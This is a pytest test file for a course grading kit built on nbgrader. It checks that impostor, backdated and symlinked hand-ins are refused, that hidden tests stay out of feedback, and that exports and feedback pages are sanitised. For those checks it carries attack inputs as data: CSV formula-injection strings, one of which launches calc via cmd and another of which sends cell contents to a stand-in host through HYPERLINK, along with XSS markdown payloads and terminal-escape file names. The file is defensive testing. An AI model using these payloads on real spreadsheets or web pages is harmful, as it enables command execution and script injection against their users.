"""collect, feedback, export and marks files, as the hub trial of issue 13 broke them.

Each test reproduces one failure of the trial: a hand-in under another student's name, a backdated
``timestamp.txt``, hidden tests in the feedback, one bad submission stopping ``feedback --release``,
written marks kept for a resubmission, Excel's ``;`` and decimal commas, times without a zone.
Hand-ins are written into a temporary exchange the way ``nbgrader submit`` writes them.
"""

from __future__ import annotations

import html
import json
import os
import pwd
import re
import shutil
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from migdata.errors import InvalidInputError, MissingColumnsError
from migdata.grading.cli import main
from migdata.grading.report import _read_marks, parse_number
from migdata.simulate.submissions import solution_sources

# one course per module: its tests stay on one xdist worker (--dist loadgroup)
pytestmark = [pytest.mark.xdist_group("exchange-course")]

A = "unit22_sources"
COURSE_ID = "migdata-module2"
# hand-ins by this user are genuine; under other names, impostors (the owner's name, not $USER)
ME = pwd.getpwuid(os.getuid()).pw_name
STAMP = "%Y-%m-%d %H:%M:%S.%f UTC"


# --- marks files as spreadsheets save them ---------------------------------------------------

@pytest.mark.parametrize(("text", "encoding"), [
    ("student_id;presentation;participation\n0100231;8,5;35\n100232;9;31,25\n", "utf-8-sig"),
    ("student_id,presentation,participation\n0100231,8.5,35\n100232,9,31.25\n", "utf-8"),
    ('student_id,presentation,participation\n0100231,"8,5",35\n100232,9,"31,25"\n', "utf-8-sig"),
    ("\ufeffstudent_id ; presentation ; participation\r\n0100231 ; 8,5 ; 35\r\n"
     "100232;9;31,25\r\n", "utf-8"),
])
def test_marks_files_with_semicolons_decimal_commas_and_bom(tmp_path, text, encoding):
    path = tmp_path / "marks.csv"
    path.write_bytes(text.encode(encoding))
    marks = _read_marks(path).set_index("student_id")
    assert list(marks.index) == ["0100231", "100232"]  # ids stay text: leading zero kept
    assert marks.loc["0100231", "presentation"] == 8.5
    assert marks.loc["100232", "participation"] == 31.25


def test_bad_marks_files_are_clear_errors(tmp_path):
    path = tmp_path / "marks.csv"
    path.write_text("student_id;presentation;participation\n1;11;3\n", encoding="utf-8")
    with pytest.raises(InvalidInputError, match="presentation must be a number from 0 to 10"):
        _read_marks(path)
    path.write_text("student;presentation\n1;3\n", encoding="utf-8")
    with pytest.raises(MissingColumnsError, match="found"):
        _read_marks(path)
    # saved as "CSV (semicolon)" in a Russian locale: Windows-1251, not UTF-8
    path.write_bytes("student_id;presentation;participation\nИванов;8;30\n".encode("cp1251"))
    with pytest.raises(InvalidInputError, match="CSV UTF-8"):
        _read_marks(path)
    assert parse_number("8,5") == 8.5 and parse_number(" 10 ") == 10.0
    assert parse_number("1,000.5") != parse_number("1,000.5")  # NaN: ambiguous, refused


# --- a course with an exchange ----------------------------------------------------------------

def _course(repo_root: Path, base: Path) -> Path:
    course = base / "autograder"
    course.mkdir(parents=True)
    shutil.copy(repo_root / "autograder" / "nbgrader_config.py", course)
    shutil.copytree(repo_root / "assignments" / "source" / A, base / "assignments" / "source" / A)
    with (course / "nbgrader_config.py").open("a", encoding="utf-8") as fh:
        fh.write(f"\nc.Exchange.root = {str(base / 'exchange')!r}\n")
    (base / "exchange").mkdir()
    assert main(["--course-dir", str(course), "generate", A]) == 0
    assert main(["--course-dir", str(course), "release", A]) == 0
    return course


def _handin(course: Path, student: str, answers: dict[str, str], *, claimed: datetime,
            secret: bool = True, tag: str = "x") -> Path:
    """A hand-in folder as nbgrader submit writes it (name, notebook, timestamp, secret)."""
    nb = nbformat.read(course / "release" / A / f"{A}.ipynb", as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    stamp = claimed.strftime(STAMP)
    folder = course.parent / "exchange" / COURSE_ID / "inbound" / f"{student}+{A}+{stamp}+{tag}"
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{A}.ipynb")
    (folder / "timestamp.txt").write_text(stamp, encoding="utf-8")
    if secret:
        (folder / "submission_secret.txt").write_text(os.urandom(8).hex(), encoding="utf-8")
    return folder


def _set_due(course: Path, due: datetime) -> None:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gb:
        gb.update_or_create_assignment(A, duedate=due.replace(tzinfo=None))


@pytest.fixture(scope="module")
def course(repo_root, tmp_path_factory):
    """Two hand-ins by this user: an honest one and a backdated late one; one impostor."""
    base = tmp_path_factory.mktemp("exchange-course")
    course = _course(repo_root, base)
    model = solution_sources(base / "assignments" / "source" / A / f"{A}.ipynb")
    _set_due(course, datetime.now(UTC) - timedelta(hours=1))
    yesterday = datetime.now(UTC) - timedelta(days=1)
    # this user hands in the model answer, claiming yesterday (before the due date)
    folder = _handin(course, ME, model, claimed=yesterday)
    past = time.time() - 86400
    for path in [folder, *folder.iterdir()]:
        os.utime(path, (past, past))  # a user can set modification times; not change times
    # someone hands in under the name of 'classmate' (this user owns the folder)
    _handin(course, "classmate", {}, claimed=datetime.now(UTC))
    return course


def test_collect_reports_the_impostor_and_the_backdated_late_handin(course, capsys):
    code = main(["--course-dir", str(course), "collect", A])
    err = " ".join(capsys.readouterr().err.split())
    assert code == 1
    assert f"classmate: handed in under classmate's name by the user {ME}; not collected" in err
    assert f"{ME}: timestamp.txt says" in err and "the exchange's time is used" in err
    assert re.search(r"late by (59 min|1 h 0 min)", err)  # due an hour ago
    assert "+04" in err  # Baku time, not bare UTC
    submitted = course / "submitted"
    assert sorted(p.name for p in submitted.iterdir()) == [ME]
    from nbgrader.utils import parse_utc

    stamp = parse_utc((submitted / ME / A / "timestamp.txt").read_text())
    assert stamp.replace(tzinfo=UTC) > datetime.now(UTC) - timedelta(minutes=10)
    # collecting again finds nothing newer and changes nothing
    before = (submitted / ME / A / "timestamp.txt").read_text()
    assert main(["--course-dir", str(course), "collect", A]) == 1  # the impostor is still there
    assert (submitted / ME / A / "timestamp.txt").read_text() == before


def test_collect_with_nothing_handed_in_fails_clearly(repo_root, tmp_path, capsys):
    course = _course(repo_root, tmp_path)
    assert main(["--course-dir", str(course), "collect", "unit22_sources"]) == 1
    assert "no hand-in of unit22_sources in the exchange" in capsys.readouterr().err


def test_collect_says_the_lateness_of_the_hand_in_it_collected_only(repo_root, tmp_path,
                                                                     capsys):
    """Re-trial finding 4: lateness of every hand-in in the exchange, older ones included."""
    course = _course(repo_root, tmp_path)
    _set_due(course, datetime.now(UTC) - timedelta(hours=1))
    _handin(course, ME, {}, claimed=datetime.now(UTC), tag="a")
    time.sleep(1.1)
    _handin(course, ME, {}, claimed=datetime.now(UTC) + timedelta(seconds=2), tag="b")
    main(["--course-dir", str(course), "collect", A])
    err = " ".join(capsys.readouterr().err.split())
    assert err.count("late by") == 1, err
    # nothing collected on the next run: nothing said about lateness
    main(["--course-dir", str(course), "collect", A])
    assert "late by" not in capsys.readouterr().err


@pytest.fixture(scope="module")
def graded(course):
    """The collected course autograded, with a second student collected and graded too."""
    if not (course / "submitted" / ME).is_dir():
        main(["--course-dir", str(course), "collect", A])
    # a second student whose hand-in is copied by the lecturer (no exchange, no secret)
    from migdata.simulate.submissions import write_submission

    write_submission(course, A, "nosecret", "partial", answered=["a1_answer"])
    assert main(["--course-dir", str(course), "autograde", A, "--quiet", "--workers", "2"]) == 0
    return course


def _hidden_lines(course: Path) -> list[str]:
    source = json.loads((course.parent / "assignments" / "source" / A / f"{A}.ipynb").read_text())
    text = "\n".join("".join(c["source"]) for c in source["cells"])
    lines = []
    for region in re.findall(r"### BEGIN HIDDEN TESTS(.*?)### END HIDDEN TESTS", text, re.DOTALL):
        lines += [ln.strip() for ln in region.splitlines() if len(ln.strip()) > 8]
    return lines


def test_feedback_hides_hidden_tests_and_releases_the_others_when_one_fails(graded, capsys):
    code = main(["--course-dir", str(graded), "feedback", A, "--release"])
    out, err = capsys.readouterr()
    # 'nosecret' was put into submitted/ by hand, without nbgrader's submission secret
    assert code == 1
    assert "feedback of nosecret not released" in err
    assert "released through the exchange for 1 student(s)" in out
    assert "written answers not marked yet" in err  # nobody has marked anything yet
    released = list((graded.parent / "exchange" / COURSE_ID / "feedback").glob("*.html"))
    assert len(released) == 1
    hidden = _hidden_lines(graded)
    assert hidden
    for student in (ME, "nosecret"):
        page = graded / "feedback" / student / A / f"{A}.html"
        text = html.unescape(re.sub(r"<[^>]+>", "", page.read_text(encoding="utf-8")))
        assert not [line for line in hidden if line in text], student
        assert "hidden checks are not shown" in text
    # nbgrader's own feedback (without the kit's preprocessor) would show them: the test can fail
    auto = (graded / "autograded" / ME / A / f"{A}.ipynb").read_text(encoding="utf-8")
    assert any(line in auto for line in [json.dumps(h)[1:-1] for h in hidden])


def test_export_has_course_time_zone_and_points_apart(graded, tmp_path, capsys):
    out = tmp_path / "grades.csv"
    assert main(["--course-dir", str(graded), "export", str(out)]) == 0
    table = pd.read_csv(out, dtype={"student_id": str}).set_index("student_id")
    row = table.loc[ME]
    assert row.timestamp.endswith("+04:00")
    assert row.auto_score == row.auto_max == 14.0
    assert row.manual_max == 7.0 and row.to_mark == 7.0 and row.manual_score == 0
    assert table.loc["nosecret", "auto_score"] == 2.0
    capsys.readouterr()
    assert main(["--course-dir", str(graded), "report", A]) == 0
    report = capsys.readouterr().out
    assert "to mark" in report and "14.0/14.0" in report
    assert "written answers still to be marked" in report


def test_a_resubmission_makes_earlier_written_marks_stale(graded, capsys):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded / 'gradebook.db'}", COURSE_ID) as gb:
        for nb in gb.find_submission(A, ME).notebooks:
            for grade in nb.grades:
                if grade.name in {c.name for c in nb.notebook.solution_cells}:
                    grade.manual_score = grade.max_score
        gb.db.commit()
    main(["--course-dir", str(graded), "feedback", A])
    assert "earlier hand-in" not in capsys.readouterr().err  # marks belong to this hand-in
    # the student hands in again with other written answers; the lecturer collects and grades
    model = solution_sources(graded.parent / "assignments" / "source" / A / f"{A}.ipynb")
    source = nbformat.read(graded.parent / "assignments" / "source" / A / f"{A}.ipynb", 4)
    written = {c.metadata["nbgrader"]["grade_id"] for c in source.cells
               if c.metadata.get("nbgrader", {}).get("solution")
               and c.metadata["nbgrader"].get("grade")}
    assert written
    model = {k: (v + "\n\nA second thought." if k in written else v) for k, v in model.items()}
    time.sleep(0.05)
    _handin(graded, ME, model, claimed=datetime.now(UTC), tag="again")
    main(["--course-dir", str(graded), "collect", A])
    assert main(["--course-dir", str(graded), "autograde", A, "--quiet", "--workers", "1"]) == 0
    capsys.readouterr()
    main(["--course-dir", str(graded), "feedback", A])
    err = " ".join(capsys.readouterr().err.split())
    assert f"{ME}: written answers marked for an earlier hand-in" in err


def test_release_refuses_to_create_nbgraders_default_exchange(repo_root, tmp_path, monkeypatch,
                                                             capsys):
    # without c.Exchange.root, nbgrader would create its default exchange with mode 0777
    from migdata.grading import cli as course_cli

    default = tmp_path / "usr-local-share-nbgrader-exchange"
    monkeypatch.setattr(course_cli, "NBGRADER_DEFAULT_EXCHANGE", str(default))
    course = tmp_path / "autograder"
    course.mkdir()
    shutil.copy(repo_root / "autograder" / "nbgrader_config.py", course)
    shutil.copytree(repo_root / "assignments" / "source" / A,
                    tmp_path / "assignments" / "source" / A)
    assert main(["--course-dir", str(course), "generate", A]) == 0
    capsys.readouterr()
    assert main(["--course-dir", str(course), "release", A]) == 2
    err = capsys.readouterr().err
    assert "c.Exchange.root is not set" in err and "skip release" in err
    assert not default.exists()


# --- what collect copies: ordinary files only, checked without following links ------------------

def _plain_handin(base: Path) -> Path:
    folder = base / f"{ME}+{A}+2026-01-01 10:00:00.000000 UTC+abc"
    (folder / "data").mkdir(parents=True)
    (folder / f"{A}.ipynb").write_text('{"cells": []}', encoding="utf-8")
    (folder / "data" / "notes.txt").write_text("mine", encoding="utf-8")
    (folder / "timestamp.txt").write_text("2026-01-01 10:00:00.000000 UTC", encoding="utf-8")
    return folder


def _secret_file(base: Path) -> Path:
    secret = base / "instructor-source.ipynb"
    secret.write_text("### BEGIN HIDDEN TESTS\nmodel answer\n", encoding="utf-8")
    return secret


def _symlink_file(folder: Path, secret: Path) -> None:
    (folder / f"{A}.ipynb").unlink()
    (folder / f"{A}.ipynb").symlink_to(secret)


def _symlink_folder(folder: Path, secret: Path) -> None:
    shutil.rmtree(folder / "data")
    (folder / "data").symlink_to(secret.parent)


def _hard_link(folder: Path, secret: Path) -> None:
    (folder / "data" / "copy.ipynb").hardlink_to(secret)


def _fifo(folder: Path, secret: Path) -> None:
    os.mkfifo(folder / "data" / "pipe")


def _socket(folder: Path, secret: Path) -> None:
    import socket

    here = os.getcwd()
    os.chdir(folder / "data")  # a socket's path must be short: bind it by a relative name
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.bind("sock")
    finally:
        os.chdir(here)


def _device(folder: Path, secret: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("making a device file needs root")
    os.mknod(folder / "data" / "null", 0o600 | __import__("stat").S_IFCHR, os.makedev(1, 3))


def _other_owner(folder: Path, secret: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("giving a file to another user needs root")
    os.chown(folder / "data" / "notes.txt", pwd.getpwnam("nobody").pw_uid, -1)


@pytest.mark.parametrize(("make", "reason"), [
    (_symlink_file, f"{A}.ipynb is a symbolic link"),
    (_symlink_folder, "data is a symbolic link"),
    (_hard_link, "data/copy.ipynb is a hard link (one file with 2 names"),
    (_fifo, "data/pipe is a named pipe"),
    (_socket, "data/sock is a socket"),
    (_device, "data/null is a device"),
    (_other_owner, "data/notes.txt belongs to the user nobody"),
])
def test_copy_handin_refuses_anything_but_ordinary_files(tmp_path, make, reason):
    from migdata.grading.exchange import RefusedHandin, copy_handin

    secret = _secret_file(tmp_path)
    folder = _plain_handin(tmp_path / "inbound")
    copy_handin(folder, None, uid=os.getuid())  # the plain hand-in passes
    make(folder, secret)
    dest = tmp_path / "submitted"
    with pytest.raises(RefusedHandin) as err:
        copy_handin(folder, dest, uid=os.getuid())
    assert str(err.value).startswith(reason)
    assert not dest.exists()  # nothing of a refused hand-in is left


def test_copy_handin_copies_bytes_and_odd_names_and_respects_the_size_limit(tmp_path):
    from migdata.grading.exchange import RefusedHandin, copy_handin

    folder = _plain_handin(tmp_path / "inbound")
    odd = os.fsencode(folder / "data") + b"/caf\xe9.txt"  # Latin-1, not valid UTF-8
    with open(odd, "wb") as fh:
        fh.write(b"\x00\xff" * 1000)
    dest = tmp_path / "submitted"
    when = copy_handin(folder, dest, uid=os.getuid())
    assert when.tzinfo is not None
    assert open(os.fsencode(dest / "data") + b"/caf\xe9.txt", "rb").read() == b"\x00\xff" * 1000
    assert (dest / "data" / "notes.txt").read_text() == "mine"
    assert oct(os.stat(dest / f"{A}.ipynb").st_mode & 0o777) == "0o644"
    with pytest.raises(RefusedHandin, match="larger than 0 MB"):
        copy_handin(folder, tmp_path / "small", uid=os.getuid(), limit=1000)
    assert not (tmp_path / "small").exists()


def test_a_file_swapped_for_a_link_after_the_check_is_refused(tmp_path, monkeypatch):
    """The race: a file passes the lstat check, then becomes a link before it is opened."""
    from migdata.grading import exchange
    from migdata.grading.exchange import RefusedHandin, copy_handin

    secret = _secret_file(tmp_path)
    folder = _plain_handin(tmp_path / "inbound")
    real_stat = os.stat
    swapped = []

    def stat_then_swap(path, *args, **kwargs):
        result = real_stat(path, *args, **kwargs)
        if path == f"{A}.ipynb" and not swapped:  # checked as an ordinary file ...
            _symlink_file(folder, secret)  # ... and replaced by a link at once
            swapped.append(path)
        return result

    monkeypatch.setattr(exchange.os, "stat", stat_then_swap)
    with pytest.raises(RefusedHandin, match="changed while it was read"):
        copy_handin(folder, tmp_path / "submitted", uid=os.getuid())
    assert swapped and not (tmp_path / "submitted").exists()


def _link_handin(course: Path, *, when: datetime) -> Path:
    """A hand-made inbound folder whose notebook is a link to the instructor's source notebook."""
    stamp = when.strftime(STAMP)
    folder = course.parent / "exchange" / COURSE_ID / "inbound" / f"{ME}+{A}+{stamp}+link"
    folder.mkdir(parents=True)
    source = course.parent / "assignments" / "source" / A / f"{A}.ipynb"
    (folder / f"{A}.ipynb").symlink_to(source)
    (folder / "timestamp.txt").write_text(stamp, encoding="utf-8")
    return folder


def test_a_link_to_the_instructors_source_is_not_collected_nor_graded(repo_root, tmp_path,
                                                                      capsys):
    course = _course(repo_root, tmp_path)
    submitted = course / "submitted" / ME / A / f"{A}.ipynb"
    # only the link hand-in: nothing is collected, the lecturer is told who and why
    _link_handin(course, when=datetime.now(UTC))
    assert main(["--course-dir", str(course), "collect", A]) == 1
    err = " ".join(capsys.readouterr().err.split())
    assert (f"{ME}: the hand-in received" in err and "is not collected and not graded: "
            f"{A}.ipynb is a symbolic link" in err and "tell the student to hand in again" in err)
    assert not (course / "submitted" / ME).exists()  # not even an empty folder
    # an honest (empty) hand-in before it: that one is collected and graded, the link never
    time.sleep(0.05)
    _handin(course, ME, {}, claimed=datetime.now(UTC), tag="honest")
    assert main(["--course-dir", str(course), "collect", A]) == 0
    time.sleep(0.05)
    _link_handin(course, when=datetime.now(UTC) + timedelta(seconds=1))
    assert main(["--course-dir", str(course), "collect", A]) == 1
    assert "is a symbolic link" in capsys.readouterr().err
    text = submitted.read_text(encoding="utf-8")
    assert "BEGIN HIDDEN TESTS" not in text  # the source (hidden tests, model answers) is not in
    assert main(["--course-dir", str(course), "autograde", A, "--quiet", "--workers", "1"]) == 0
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gb:
        assert gb.find_submission(A, ME).score == 0.0  # the empty hand-in's score, not full marks


def test_a_hand_in_that_is_itself_a_link_is_not_collected(repo_root, tmp_path, capsys):
    course = _course(repo_root, tmp_path)
    inbound = course.parent / "exchange" / COURSE_ID / "inbound"
    stamp = datetime.now(UTC).strftime(STAMP)
    (inbound / f"{ME}+{A}+{stamp}+dir").symlink_to(course.parent / "assignments" / "source" / A)
    assert main(["--course-dir", str(course), "collect", A]) == 1
    err = " ".join(capsys.readouterr().err.split())
    assert "is a symbolic link, not a folder" in err
    assert not (course / "submitted").exists() or not any((course / "submitted").iterdir())


# --- exports: no cell a spreadsheet would run as a formula -------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    from migdata.grading.csvsafe import safe_cell

    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3.5, 3, 0, True, None, "-3.5", "+4", "-1e3", "-0,25",
                                   "Aliyev", "s100231", "2026-12-07 19:00:00+04:00", ""])
def test_numbers_and_plain_text_stay_as_they_are(value):
    import numpy as np

    from migdata.grading.csvsafe import safe_cell

    assert safe_cell(value) is value
    assert safe_cell(np.float64(-3.5)) == -3.5 and isinstance(safe_cell(np.int64(-2)), np.integer)


def _csv_cells(path: Path) -> list[list[str]]:
    import csv

    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_export_and_moodle_worksheet_neutralise_formulas(graded, tmp_path, monkeypatch):
    from nbgrader.api import Gradebook

    from migdata.grading import moodle

    evil = "=HYPERLINK(\"http://x.example\",\"open\")"
    with Gradebook(f"sqlite:///{graded / 'gradebook.db'}", COURSE_ID) as gb:
        gb.update_or_create_student(evil)
    out = tmp_path / "grades.csv"
    assert main(["--course-dir", str(graded), "export", str(out)]) == 0
    cells = _csv_cells(out)
    header, rows = cells[0], cells[1:]
    ids = [row[header.index("student_id")] for row in rows]
    assert "'" + evil in ids and evil not in ids
    for row in rows:  # nothing written begins a formula, and numbers are written as numbers
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"-[\d.]+", cell), cell
        assert float(row[header.index("score")]) >= 0
    table = pd.read_csv(out, dtype={"student_id": str})
    assert table["score"].dtype.kind == "f" and table["max_score"].dtype.kind == "f"
    # Moodle's worksheet is Moodle's own file, filled in place: the kit writes only numbers in
    # its Grade column and its own note in Feedback comments (tests/test_moodle_worksheet.py)
    # files that list students are readable by their owner alone, even when they existed before
    (tmp_path / "roster").mkdir()
    roster = tmp_path / "roster" / ".migdata-course" / "roster.csv"
    roster.parent.mkdir()
    roster.write_text("old", encoding="utf-8")
    roster.chmod(0o644)
    moodle._save_roster(tmp_path / "roster", [
        {"assignment": A, "participant_id": "7", "student_id": ME, "full_name": "A. B."}])
    for path in (out, roster):
        assert oct(path.stat().st_mode & 0o777) == "0o600", path
    assert moodle.read_roster.__name__ and "A. B." in roster.read_text(encoding="utf-8")


# --- safe to look at: a written answer with active content --------------------------------------

EVIL_MARKDOWN = """My answer <script>document.title='pwned-script'</script> is below.
<img src=x onerror="document.title='pwned-img'"> <iframe src="https://x.example"></iframe>
[read this](javascript:document.title='pwned-link') <javascript:alert(1)>
<a href="JaVaScRiPt:alert(2)" onclick="alert(3)">x</a> <svg onload="alert(4)"></svg>
<div style="position:fixed" id="score" class="score">fake score</div>
<details open ontoggle="alert(5)">more</details> $\\href{javascript:alert(6)}{maths}$

The census counts **usual residents**; see [the manual](https://unstats.un.org/).
"""


class _Page:
    """What a browser would find active in an HTML page."""

    def __init__(self, text: str) -> None:
        from html.parser import HTMLParser

        self.scripts: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.urls: list[str] = []
        self.tags: list[str] = []
        page = self

        class Parser(HTMLParser):
            in_script = False

            def handle_starttag(self, tag, attrs):
                page.tags.append(tag)
                self.in_script = tag == "script"
                for name, value in attrs:
                    if name.lower().startswith("on"):
                        page.handlers.append((tag, name))
                    if name.lower() in ("href", "src", "action", "formaction", "data"):
                        page.urls.append(value or "")

            def handle_data(self, data):
                if self.in_script:
                    page.scripts.append(data)

            def handle_endtag(self, tag):
                self.in_script = False

        Parser().feed(text)


def _check_safe(text: str) -> None:
    page = _Page(text)
    assert not [s for s in page.scripts if "pwned" in s or "alert" in s]
    assert not page.handlers, page.handlers
    assert not [u for u in page.urls if u.strip().lower().replace("\t", "").startswith(
        ("javascript:", "data:text", "vbscript:"))]
    assert "iframe" not in page.tags and "svg" not in page.tags and "img" not in page.tags
    assert "<div>fake score</div>" in text  # no id, class or style of the student's
    assert "\\href{" not in text
    # what the student wrote is still there to read, as text, and plain formatting is kept
    shown = html.unescape(text)
    assert "<script>document.title='pwned-script'</script>" in shown
    assert "<strong>usual residents</strong>" in text
    assert '<a href="https://unstats.un.org/">the manual</a>' in text


def test_written_answers_with_active_content_are_shown_as_text(repo_root, tmp_path, capsys):
    course = _course(repo_root, tmp_path)
    config = course / "nbgrader_config.py"
    full = config.read_text(encoding="utf-8")
    block = full.index("# --- what the formgrader and the feedback show")
    end = full.index("c.Exchange.root", block)  # the exchange line _course added
    assert "SafeMarkdown" in full[block:end]
    # a course config from before this setting
    config.write_text(full[:block] + full[end:], encoding="utf-8")
    _handin(course, ME, {"d1_answer": EVIL_MARKDOWN}, claimed=datetime.now(UTC))
    assert main(["--course-dir", str(course), "collect", A]) == 0
    assert main(["--course-dir", str(course), "autograde", A, "--quiet", "--workers", "1"]) == 0
    auto = (course / "autograded" / ME / A / f"{A}.ipynb").read_text(encoding="utf-8")
    assert "<script>document.title" in auto  # the active content reached the graded notebook
    page = course / "feedback" / ME / A / f"{A}.html"
    # migdata-course feedback cleans it even without the setting in nbgrader_config.py
    main(["--course-dir", str(course), "feedback", A])
    _check_safe(page.read_text(encoding="utf-8"))
    # nbgrader's own generate_feedback (as the formgrader's button runs it) with the course's
    # nbgrader_config.py as shipped
    config.write_text(full, encoding="utf-8")
    page.unlink()
    from nbgrader.apps import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory

    from migdata.grading.config import load_config

    cfg = load_config(course)
    api = NbGraderAPI(coursedir=CourseDirectory(config=cfg), config=cfg)
    assert api.generate_feedback(A, ME, force=True)["success"]
    _check_safe(page.read_text(encoding="utf-8"))


def test_odd_hand_ins_leave_the_others_collected(repo_root, tmp_path, capsys):
    """Deep nesting, terminal escapes and bytes that are not UTF-8 in names: reported, not fatal."""
    course = _course(repo_root, tmp_path)
    inbound = os.fsencode(course.parent / "exchange" / COURSE_ID / "inbound")
    stamp = datetime.now(UTC).strftime(STAMP).encode()
    for student in (b"\x1b[2J\nfake", b"caf\xe9\xff"):  # an escape and a newline; not UTF-8
        os.mkdir(inbound + b"/" + student + b"+" + A.encode() + b"+" + stamp + b"+x")
    # this user's own hand-in, nested 3000 folders deep (deeper than Python's recursion limit)
    deep = inbound + f"/{ME}+{A}+".encode() + stamp + b"+deep"
    os.mkdir(deep)
    fd = os.open(deep, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(3000):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)
    try:
        assert main(["--course-dir", str(course), "collect", A]) == 1
    finally:  # pytest's clean-up of tmp_path recurses and could not remove it
        import subprocess

        subprocess.run(["rm", "-rf", os.fsdecode(deep)], check=True)
    err = capsys.readouterr().err
    lines = [ln for ln in err.splitlines() if ln.startswith("migdata-course: warning:")]
    assert any("\\x1b[2J\\x0afake: handed in under" in ln for ln in lines), err
    assert any("caf\\xe9\\xff: handed in under" in ln for ln in lines), err
    assert "\x1b" not in err and len(lines) == len(err.strip().splitlines())
    assert f"{ME}: the hand-in received" in err and "nested more than 32 folders deep" in err
    assert not (course / "submitted" / ME).exists()
    # an honest hand-in afterwards is collected as usual
    time.sleep(0.05)
    _handin(course, ME, {}, claimed=datetime.now(UTC) + timedelta(seconds=1), tag="honest")
    main(["--course-dir", str(course), "collect", A])
    assert (course / "submitted" / ME / A / f"{A}.ipynb").is_file()
